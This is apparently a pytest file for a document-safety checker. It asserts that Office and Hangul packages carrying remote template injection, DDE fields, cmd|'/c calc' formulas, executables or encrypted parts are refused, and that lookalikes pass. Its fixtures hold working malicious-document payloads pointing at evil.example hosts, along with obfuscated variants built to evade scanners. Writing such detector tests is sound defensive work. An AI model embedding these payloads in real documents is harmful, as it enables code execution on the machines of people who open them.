"""What Office would fetch or run: refused where it needs no question, told where it only points outside."""

from __future__ import annotations

import random
from collections.abc import Callable

import pytest

from docforge.errors import Refusal
from docforge.opc import Package, check_safe, external_targets
from tests.opc.packages import DECLARATION, WORD, Parts, S, W, content_types, docx, hwpx, pack, rels, xlsx

CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
SETTINGS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/_rels/document.xml.rels"


def word(body: bytes) -> Parts:
    return {
        "word/document.xml": DECLARATION
        + b"<w:document "
        + W
        + b"><w:body><w:p>"
        + body
        + b"</w:p></w:body></w:document>"
    }


def run(instruction: bytes) -> bytes:
    return b"<w:r><w:instrText>" + instruction + b"</w:instrText></w:r>"


def mark(kind: bytes) -> bytes:
    return b'<w:r><w:fldChar w:fldCharType="' + kind + b'"/></w:r>'


def sheet(formula: bytes) -> Parts:
    cell = b'<c r="A1"><f>' + formula + b"</f><v>2</v></c>"
    rows = b"<sheetData><row>" + cell + b"</row></sheetData>"
    return {"xl/worksheets/sheet1.xml": DECLARATION + b"<worksheet " + S + b">" + rows + b"</worksheet>"}


def book(name: bytes) -> Parts:
    names = b'<definedNames><definedName name="n">' + name + b"</definedName></definedNames>"
    return {"xl/workbook.xml": DECLARATION + b"<workbook " + S + b"><sheets/>" + names + b"</workbook>"}


LINK = b"<externalLink " + S + b"><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
FIELD = word(mark(b"begin") + run(b"DDE x"))["word/document.xml"]
SPOILED_SHEET = sheet(b"cmd|'/c calc'!A0")["xl/worksheets/sheet1.xml"]


def wide(content: bytes) -> bytes:
    return content.decode().replace("UTF-8", "UTF-16").encode("utf-16")


TAKEN_OVER = {
    "a template from the net": ("attachedTemplate", "https://evil.example/t.dotm"),
    "a template from a share": ("attachedTemplate", "file://///10.0.0.1/s/t.dotm"),
    "a template from a named host": ("attachedTemplate", "file://evil/s/t.dotm"),
    "a template behind an entity": ("attachedTemplate", "&#104;ttps://evil.example/t"),
    "a template behind an escape": ("attachedTemplate", "%5C%5Cevil%5Ct.dotm"),
    "an object from the net": ("oleObject", "https://evil.example/x.html!"),
    "an object by a helper program": ("oleObject", "mhtml:http://evil.example/x"),
    "a frame from the net": ("frame", "https://evil.example/f"),
    "a part of the document from a share": ("subDocument", "\\\\evil\\s\\d.docx"),
    "a chunk from the net": ("aFChunk", "http://evil.example/c.html"),
    "a control from the net": ("control", "http://evil.example/c"),
}
STARTS_PROGRAM: dict[str, Parts] = {
    "a field split over runs": word(mark(b"begin") + run(b"DDE") + run(b"AUTO c:\\x.exe")),
    "a field after another": word(mark(b"begin") + run(b"PAGE") + mark(b"end") + mark(b"begin") + run(b" dde cmd")),
    "a simple field": word(b'<w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;"/>'),
    "a field in a header": {"word/header1.xml": FIELD},
    "a field in UTF-16": {"word/document.xml": wide(FIELD)},
    "a link of a workbook": {
        "xl/_rels/workbook.xml.rels": rels(("externalLink", "links/one.bin")),
        "xl/links/one.bin": LINK,
    },
    "a link of a workbook in UTF-16": {
        "xl/_rels/workbook.xml.rels": rels(("externalLink", "/xl/one.xml")),
        "xl/one.xml": wide(DECLARATION + LINK),
    },
    "a formula": sheet(b"cmd|'/c calc'!A0"),
    "a formula in UTF-16": {"xl/worksheets/sheet1.xml": wide(SPOILED_SHEET)},
    "a formula without quotes": sheet(b"1+excel|book!r1c1"),
    "a formula behind a reference": sheet(b"cmd&#124;'/c calc'!A0"),
    "a formula behind a hexadecimal one": sheet(b"cmd&#x7C;'/c calc'!A0"),
    "a field in another folder": {
        "[Content_Types].xml": content_types(story__document_xml=WORD),
        "_rels/.rels": rels(("officeDocument", "story/document.xml")),
        "story/document.xml": FIELD,
    },
    "a field split by comments": word(mark(b"begin") + run(b"DD<!-- -->EAUTO cmd")),
    "a formula behind a sign of an end": sheet(b"1</f><f t='>'>cmd|'/c calc'!A0"),
    "a formula behind text with pipes": sheet(b"1</f></c><c><is><t>a|b|c</t></is></c><c><f>cmd|'/c calc'!A0"),
    "a name with pipes in its comment": book(b"1</definedName><definedName comment='a|b'>cmd|'/c calc'!A0"),
    "a formula split by an instruction": sheet(b"cmd<?x y?>|'/c calc'!A0"),
    "a formula behind what looks like an element": sheet(b"<![CDATA[A1<a >cmd|'/c calc'!A0]]>"),
    "a formula split by comments": sheet(b"cmd<!-- -->|'/c calc'!A0"),
    "a formula with a comparison in CDATA": sheet(b"<![CDATA[1<2&cmd|'/c calc'!A0]]>"),
    "a formula in CDATA": sheet(b"<![CDATA[cmd|'/c calc'!A0]]>"),
    "a formula after text": sheet(b"\"a\"&amp;cmd|'/c calc'!A0"),
    "a defined name": book(b"cmd|'/c calc'!A0"),
}
_CHANCE = random.Random(1)
LARGE_ROWS = b"".join(b"<row><c><v>%d</v></c></row>" % _CHANCE.randrange(10**9) for _ in range(40_000))
PROGRAMS = ["word/media/a.EXE", "BinData/a.lnk"]
CHART = {
    "[Content_Types].xml": content_types(word__document_xml=WORD, word__charts__chart1_xml=CHART_TYPE),
    "word/charts/chart1.xml": b"<c/>",
    "word/charts/_rels/chart1.xml.rels": rels(("oleObject", "!https://e/b.xlsx")),
}
HARMLESS: dict[str, tuple[Parts, Parts]] = {
    "a template on the own disk": (docx(), {SETTINGS: rels(("attachedTemplate", "!file:///C:\\T\\Normal.dotm"))}),
    "a template on a drive": (docx(), {SETTINGS: rels(("attachedTemplate", "!C:\\T\\Normal.dotm"))}),
    "a template beside it": (docx(), {SETTINGS: rels(("attachedTemplate", "!Normal.dotm"))}),
    "a picture from the net": (docx(), {DOCUMENT: rels(("image", "!https://evil.example/p.png"))}),
    "links of every kind": (
        docx(),
        {DOCUMENT: rels(("hyperlink", "!ms-msdt:/id x"), ("hyperlink", "!https://e/"), ("hyperlink", "!javascript:x"))},
    ),
    "another workbook": (xlsx(), {"xl/externalLinks/_rels/e.xml.rels": rels(("externalLinkPath", "!https://e/b.xlsx"))}),
    "the workbook of a chart": (docx(), CHART),
    "an embedded object": (docx(), {DOCUMENT: rels(("oleObject", "embeddings/o.bin")), "word/embeddings/o.bin": b"x"}),
    "an address in a field": (docx(), word(mark(b"begin") + run(b'HYPERLINK "http://dde.example/DDE"'))),
    "the word in the text": (docx(), word(b"<w:r><w:t>DDEAUTO cmd</w:t></w:r>" + mark(b"begin") + run(b"PAGE"))),
    "a pipe in the text of a formula": (xlsx(), sheet(b"TEXTJOIN(\"|\",TRUE,A1:A3)&amp;'My|Sheet'!A1&amp;T[a|b]")),
    "a pipe in escaped text of a formula": (xlsx(), sheet(b"A1&amp;&quot;|&quot;&amp;A2")),
    "a pipe in the comment of a name": (xlsx(), book(b"1</definedName><definedName comment='a|b'>A1")),
    "a pipe in a text beside a formula": (xlsx(), sheet(b"1</f></c><c><is><t>a|b</t></is></c><c><f>A1")),
    "a pipe in a value": (xlsx(), {"xl/sharedStrings.xml": b"<sst " + S + b"><si><t>cmd|'/c calc'!A0</t></si></sst>"}),
    "a nested package": (docx(), {"word/embeddings/a.xlsx": pack(xlsx())}),
    "a script of a Hangul file": (hwpx(), {"Scripts/headerScripts.js": b"var Documents = XHwpDocuments;"}),
}  # fmt: skip


def reason(base: Parts, spoil: Parts) -> str:
    with pytest.raises(Refusal) as caught:
        check_safe(Package.open(pack(base | spoil)))
    assert caught.value.code == "hostile_file"
    return caught.value.facts["why"].code


@pytest.mark.proves("REJECT-5")
@pytest.mark.parametrize(
    "source", [DOCUMENT, SETTINGS, "xl/worksheets/_rels/sheet1.xml.rels", "ppt/slides/_rels/s.xml.rels"]
)
@pytest.mark.parametrize(("kind", "target"), TAKEN_OVER.values(), ids=TAKEN_OVER)
def test_what_office_takes_over_from_another_machine_unasked_is_refused(source: str, kind: str, target: str) -> None:
    assert reason(docx(), {source: rels((kind, f"!{target}"))}) == "remote_content"


@pytest.mark.proves("REJECT-5")
@pytest.mark.parametrize("spoil", STARTS_PROGRAM.values(), ids=STARTS_PROGRAM)
def test_a_field_formula_or_link_that_starts_a_program_is_refused(spoil: Parts) -> None:
    assert reason(xlsx() if next(iter(spoil)).startswith("xl/") else docx(), spoil) == "starts_program"


@pytest.mark.proves("REJECT-5")
@pytest.mark.parametrize("formula", [b"cmd|'/c calc'!A0", b"cmd&#124;'/c calc'!A0", b"cmd&#x7c;'/c calc'!A0"])
@pytest.mark.parametrize("shape", [bytes, wide])
def test_a_formula_deep_in_a_large_sheet_is_found(formula: bytes, shape: Callable[[bytes], bytes]) -> None:
    content = sheet(formula)["xl/worksheets/sheet1.xml"].replace(b"<row>", LARGE_ROWS + b"<row>")
    assert reason(xlsx(), {"xl/worksheets/sheet1.xml": shape(content)}) == "starts_program"


def test_a_large_sheet_with_formulas_alone_passes() -> None:
    content = sheet(b"A1")["xl/worksheets/sheet1.xml"].replace(b"<row>", LARGE_ROWS + b"<row>")
    check_safe(Package.open(pack(xlsx() | {"xl/worksheets/sheet1.xml": content})))


@pytest.mark.parametrize("share", [0.2, 0.5, 0.99])
def test_a_large_sheet_that_is_damaged_is_refused(share: float) -> None:
    content = sheet(b"A1")["xl/worksheets/sheet1.xml"].replace(b"<row>", LARGE_ROWS + b"<row>")
    data = bytearray(pack(xlsx() | {"xl/worksheets/sheet1.xml": content}))
    entry = Package.open(bytes(data)).archive.find("xl/worksheets/sheet1.xml")
    assert entry is not None
    data[entry.start + int(entry.packed * share)] ^= 0xFF
    with pytest.raises(Refusal) as caught:
        check_safe(Package.open(bytes(data)))
    assert caught.value.code == "not_a_document"


@pytest.mark.proves("REJECT-5")
@pytest.mark.parametrize("name", PROGRAMS)
def test_a_program_among_the_parts_is_refused(name: str) -> None:
    assert reason(docx(), {name: b"MZ"}) == "program_inside"


@pytest.mark.parametrize(("base", "spoil"), HARMLESS.values(), ids=HARMLESS)
def test_what_only_points_or_looks_alike_passes(base: Parts, spoil: Parts) -> None:
    check_safe(Package.open(pack(base | spoil)))


@pytest.mark.proves("REJECT-5")
def test_a_hangul_file_with_a_password_is_called_encrypted() -> None:
    manifest = (
        DECLARATION
        + b"<odf:manifest xmlns:odf='urn:o'><odf:file-entry><odf:encryption-data/></odf:file-entry></odf:manifest>"
    )
    with pytest.raises(Refusal) as caught:
        check_safe(Package.open(pack(hwpx() | {"META-INF/manifest.xml": manifest})))
    assert caught.value.code == "encrypted"


def test_references_outside_are_told_with_where_they_stand_and_where_they_lead() -> None:
    spoil = {
        DOCUMENT: rels(("image", "!https://e/p.png"), ("hyperlink", "!file:///C:/a.txt"), ("styles", "styles.xml"))
    }
    found = external_targets(Package.open(pack(docx() | spoil)))
    assert [(each.source, each.kind, each.target, each.is_remote, each.is_dangerous) for each in found] == [
        ("word/document.xml", "image", "https://e/p.png", True, False),
        ("word/document.xml", "hyperlink", "file:///C:/a.txt", False, False),
    ]
